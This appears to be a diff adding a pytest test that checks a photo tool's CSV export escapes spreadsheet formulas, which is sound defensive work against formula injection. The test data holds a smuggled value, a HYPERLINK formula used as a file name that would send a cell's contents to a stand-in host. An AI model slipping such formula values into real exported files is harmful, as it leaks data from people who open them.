@@ -95,6 +95,15 @@ def test_the_files_hold_what_was_found(analysis: Analysis, tmp_path: Path) -> No
         assert float(rows[photo.name]["mean_drop"]) == pytest.approx(np.mean(drops))
 
 
+def test_a_spreadsheet_runs_no_name_of_a_photo(analysis: Analysis, tmp_path: Path) -> None:
+    name = '=HYPERLINK("http://x/?"&A1).jpg'
+    photos = tuple(replace(photo, name=name) for photo in analysis.material.photos)
+    write_files(tmp_path, replace(analysis, material=replace(analysis.material, photos=photos), copies=()))
+    with (tmp_path / CSV_FILE).open(newline="", encoding="utf-8") as file:
+        rows = list(csv.DictReader(file))
+    assert {row["file"] for row in rows} == {f"'{name}"} and {row["nearest"] for row in rows} <= {"", f"'{name}"}
+
+
 @pytest.mark.slow
 def test_the_scoring_report_has_the_seconds_of_steps_where_they_are_known(made: Prepared, tmp_path: Path) -> None:
     seconds = write_scoring(made.folder, tmp_path, Local(2), seed=0)
